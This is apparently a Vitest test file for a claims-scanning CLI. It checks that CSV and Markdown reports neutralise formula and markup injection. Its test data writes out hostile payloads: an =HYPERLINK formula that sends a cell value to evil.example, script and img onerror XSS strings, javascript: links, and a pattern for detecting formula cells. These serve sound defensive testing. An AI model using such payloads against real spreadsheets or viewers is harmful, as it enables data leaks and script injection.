import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, csvText } from '../../src/report/csv-format.js';
import { mdText } from '../../src/report/markdown-text.js';
import { runCli, smallExport, tempDir } from '../support/cli.js';

describe('csvText (formula injection)', () => {
  it.each([
    ['=HYPERLINK("http://x")', `'=HYPERLINK("http://x")`],
    ['+31 6 1234', `'+31 6 1234`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['-1+1', `'-1+1`],
    ['-A1', `'-A1`],
    ['-', `'-`],
    ['-500', '-500'],
    ['-1.234,56', '-1.234,56'],
    ['-12.5', '-12.5'],
    ['-,5', '-,5'],
    ['Zorg = goed', 'Zorg = goed'],
    ['', ''],
  ])('%j -> %j', (input, expected) => expect(csvText(input)).toBe(expected));

  it('quotes after neutralising, and leaves computed numbers alone', () => {
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField(-500)).toBe('-500');
    expect(csvField(-1.5)).toBe('-1.5');
  });
});

describe('mdText (Markdown and HTML injection)', () => {
  it.each([
    ['<script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['<img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)&gt;'],
    ['[klik](javascript:alert(1))', '\\[klik\\](javascript:alert(1))'],
    ['![](http://evil.example/p.png)', '!\\[\\](http://evil.example/p.png)'],
    ['<http://evil.example>', '&lt;http://evil.example&gt;'],
    ['ZV|1', 'ZV\\|1'],
    ['a\nb\r\nc\rd\u2028e', 'a b c d e'],
    ['**vet** _schuin_ ~~weg~~ `code`', '\\*\\*vet\\*\\* \\_schuin\\_ \\~\\~weg\\~\\~ \\`code\\`'],
    ['budget_start', 'budget_start'],
    ['&lt; al een entiteit', '&amp;lt; al een entiteit'],
    ['eind\\', 'eind\\\\'],
  ])('%j -> %j', (input, expected) => expect(mdText(input)).toBe(expected));
});

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"klik")<script>alert(1)</script>[x](javascript:alert(1))![](http://evil.example/p.png)<http://evil.example>';
const HOSTILE_ID = '@ZV|1';

/**
 * The small export (test/support/cli.ts) with its busy provider renamed to an id and name that attack
 * spreadsheets and Markdown viewers, a provider whose soort is a formula, and a raw value of -500 hours.
 */
function hostileExport(dir: string): string {
  smallExport(dir);
  const edit = (name: string, f: (text: string) => string) => writeFileSync(join(dir, name), f(readFileSync(join(dir, name), 'utf8')));
  edit('zorgverleners.csv', (t) =>
    t.replace('ZV-BUSY,Zorg Één,', `"${HOSTILE_ID}","${HOSTILE_NAME.replace(/"/g, '""')}",`) + 'ZV-BAD,Derde,=1+1,07654322,X3,I3\n',
  );
  edit('declaraties.csv', (t) => t.replaceAll(',ZV-BUSY,', `,"${HOSTILE_ID}",`).replace('D5,BH3,ZV-OK,2025-03-05,09:00,13:00,4,', 'D5,BH3,ZV-OK,2025-03-05,09:00,13:00,-500,'));
  return dir;
}

/** Every cell of a CSV output that a spreadsheet would run as a formula. */
const formulaCells = (csv: string) =>
  (parse(csv, { relax_column_count: true }) as string[][]).flat().filter((c) => /^[=+@\t\r]/.test(c) || /^-(?!\d+(?:[.,]\d+)*$)./.test(c));

describe('a scan with hostile names', () => {
  it('writes no formula into a CSV output and no markup into report.md; ndjson keeps the raw value', async () => {
    const dir = hostileExport(tempDir());
    const out = join(tempDir(), 'out');
    const r = await runCli(['scan', dir, '--out', out, '--max-reject-rate', '1', '--stdout', 'csv']);
    expect(r.code, r.stderr).toBe(0);

    const providers = readFileSync(join(out, 'providers.csv'), 'utf8');
    const rows = parse(providers) as string[][];
    expect(rows[1][1]).toBe(`'${HOSTILE_ID}`);
    expect(rows[1][2]).toBe(`'${HOSTILE_NAME}`);
    expect(formulaCells(providers)).toEqual([]);
    expect(r.stdout).toBe(providers);

    const holders = readFileSync(join(out, 'budgethouders.csv'), 'utf8');
    expect(holders).toContain(`'${HOSTILE_ID}`);
    expect(formulaCells(holders)).toEqual([]);

    const rejects = readFileSync(join(out, 'rejects.csv'), 'utf8');
    const rejectRows = parse(rejects) as string[][];
    expect(rejectRows.find((x) => x[2] === 'soort')?.[3]).toBe(`'=1+1`);
    // A raw negative number is data, not a formula: it stays as it was.
    expect(rejectRows.find((x) => x[2] === 'uren')?.[3]).toBe('-500');
    expect(formulaCells(rejects)).toEqual([]);

    const signals = readFileSync(join(out, 'signals.ndjson'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    expect(signals.some((s) => s.provider === HOSTILE_ID)).toBe(true);

    const report = readFileSync(join(out, 'report.md'), 'utf8');
    expect(report).toContain('&lt;script&gt;');
    expect(report).not.toMatch(/<script|<img|<http/i);
    expect(report).not.toMatch(/(?<!\\)\[[^\]]*(?<!\\)\]\(/); // no link or image syntax left
    expect(report).toContain('@ZV\\|1');
    // Every table row still has as many cells as its header.
    for (const table of report.split('\n\n').filter((b) => b.startsWith('|'))) {
      const cells = (line: string) => line.split(/(?<!\\)\|/).length;
      const lines = table.split('\n');
      for (const line of lines) expect(cells(line), line).toBe(cells(lines[0]));
    }
  });
});
